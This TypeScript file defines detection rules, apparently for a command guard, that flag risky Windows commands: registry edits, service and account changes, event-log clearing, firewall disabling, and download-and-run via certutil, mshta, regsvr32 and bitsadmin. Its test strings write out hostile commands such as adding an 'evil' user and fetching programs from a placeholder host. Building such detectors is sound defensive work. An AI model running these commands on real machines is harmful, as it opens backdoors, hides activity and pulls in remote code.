import { list } from '../../word-list.ts'
import type { GuardRule } from '../rule.ts'
import { isOutsideWorkspace } from './workspace.ts'

/** The registry, services, accounts, and downloaded programs. */
export const systemRules: readonly GuardRule[] = [
  {
    id: 'windows/registry',
    program: list('reg remove-itemproperty set-itemproperty new-itemproperty regedit'),
    oneOf: [
      { program: 'reg', words: /^(delete|add|import|restore|unload|load)\b/i },
      { program: 'regedit' },
      {
        program: list('remove-itemproperty set-itemproperty new-itemproperty'),
        argMatches: /HK(LM|CU|CR|U)|HKEY_|Registry::/i,
      },
    ],
    severity: 'high',
    reason: 'changes the registry',
    match: [
      'reg delete HKLM\\Software\\X /f',
      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y',
      'Remove-ItemProperty -Path HKLM:\\x -Name y',
    ],
    notMatch: ['reg query HKLM\\Software'],
  },
  {
    id: 'windows/system',
    program: list(
      'stop-computer restart-computer stop-service remove-service set-service sc net schtasks wevtutil clear-eventlog set-executionpolicy set-mppreference add-mppreference netsh takeown icacls new-localuser remove-localuser add-localgroupmember disable-netfirewallrule set-netfirewallprofile uninstall-windowsfeature disable-windowsoptionalfeature register-scheduledtask unregister-scheduledtask enable-psremoting stop-process taskkill tskill logoff runas wsl',
    ),
    when: call => {
      const words = call.args.map(({ value }) => value).join(' ')
      switch (call.program) {
        case 'sc':
          return /^(\\\\\S+\s+)?(delete|stop|config|create|failure|sdset)\b/i.test(words)
        case 'net':
          return /^(stop|start\s|user\s+\S+\s+\S+|localgroup\s+\S+\s+\S+|share\s+\S+|use\s+.*\/delete)/i.test(words)
        case 'schtasks':
          return /\/(create|delete|change)/i.test(words)
        case 'wevtutil':
          return /^(cl|clear-log|sl)\b/i.test(words)
        case 'netsh':
          return /\b(set|add|delete|reset|off)\b/i.test(words)
        case 'set-executionpolicy':
          return !/\b(RemoteSigned|AllSigned|Restricted)\b/i.test(words)
        case 'icacls':
          return (
            /\/(grant|reset|remove|setowner|inheritance)/i.test(words) &&
            (/everyone/i.test(words) || call.operands.some(arg => isOutsideWorkspace(call, arg)))
          )
        case 'taskkill':
        case 'stop-process':
        case 'tskill':
          return /\b(explorer|winlogon|lsass|csrss|svchost|services|wininit)\b|\*/i.test(words)
        case 'wsl':
          return /--(unregister|uninstall)/.test(words)
        default:
          return true
      }
    },
    severity: 'high',
    reason: 'stops, exposes or changes the system',
    match: [
      'Stop-Computer -Force',
      'sc delete MyService',
      'net user evil P4ss /add',
      'schtasks /create /tn x /tr y /sc daily',
      'wevtutil cl System',
      'Set-ExecutionPolicy Unrestricted',
      'netsh advfirewall set allprofiles state off',
      'wsl --unregister Ubuntu',
      'takeown /f C:\\Windows /r',
    ],
    notMatch: [
      'sc query',
      'net user',
      'schtasks /query',
      'taskkill /F /PID 4242',
      'netsh wlan show profiles',
      'wsl --list',
      'Set-ExecutionPolicy RemoteSigned -Scope CurrentUser',
    ],
  },
  {
    id: 'windows/download-run',
    program: list('certutil bitsadmin mshta regsvr32 rundll32 wscript cscript msiexec installutil start-bitstransfer'),
    oneOf: [
      { program: 'certutil', argMatches: /-(urlcache|decode|encode|f\b)/i },
      {
        program: list('bitsadmin mshta regsvr32 rundll32 wscript cscript msiexec installutil start-bitstransfer'),
        argMatches: /https?:|\/transfer|javascript:|vbscript:/i,
      },
    ],
    severity: 'high',
    reason: 'downloads a program from elsewhere, or runs it',
    match: [
      'certutil -urlcache -f http://x/a.exe a.exe',
      'mshta http://x/a.hta',
      'regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll',
      'bitsadmin /transfer j http://x/a C:\\a',
    ],
    notMatch: ['certutil -hashfile a.exe SHA256', 'msiexec /i local.msi'],
  },
]
